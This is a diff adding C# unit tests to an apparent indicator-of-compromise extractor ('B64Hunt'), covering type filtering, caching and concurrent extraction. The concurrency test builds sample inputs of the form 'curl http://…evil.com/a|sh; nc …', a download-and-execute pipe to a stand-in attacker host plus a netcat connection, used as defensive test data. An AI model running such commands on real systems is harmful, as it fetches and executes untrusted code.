@@ -66,6 +66,30 @@ namespace B64Hunt.Tests.Iocs
         }
 
         [Fact]
+        public void TheSameTextWithOtherTypesIsNotServedFromTheMemo()
+        {
+            Assert.Equal(new[] { "dns" }, Extract(Command, IocTypes.Dns).Select(i => i.Type).ToArray());
+            Assert.Equal(new[] { "ipv4" }, Extract(Command, IocTypes.Ipv4).Select(i => i.Type).ToArray());
+            Assert.Equal(5, Extract(Command).Count);
+        }
+
+        [Fact]
+        public void ConcurrentExtractionGivesTheSameAnswers()
+        {
+            var texts = Enumerable.Range(0, 2000).Select(i => $"curl http://h{i % 300}.evil.com/a|sh; nc 93.184.{i % 7}.34 {i}").ToArray();
+            var expected = texts.Select(t => string.Join(",", Extract(t).Select(i => i.ToString()))).ToArray();
+            var actual = new string[texts.Length];
+            System.Threading.Tasks.Parallel.For(0, texts.Length, i => actual[i] = string.Join(",", Extract(texts[i]).Select(x => x.ToString())));
+            Assert.Equal(expected, actual);
+        }
+
+        [Fact]
+        public void ExtractorsAreSharedPerListFile()
+        {
+            Assert.Same(Extractor, IocExtractor.FromDataDirectory(DataDirectory));
+        }
+
+        [Fact]
         public void WithEventMakesATableRow()
         {
             var commandEvent = new CommandEvent { DecodedCommand = "ping evil.com" };
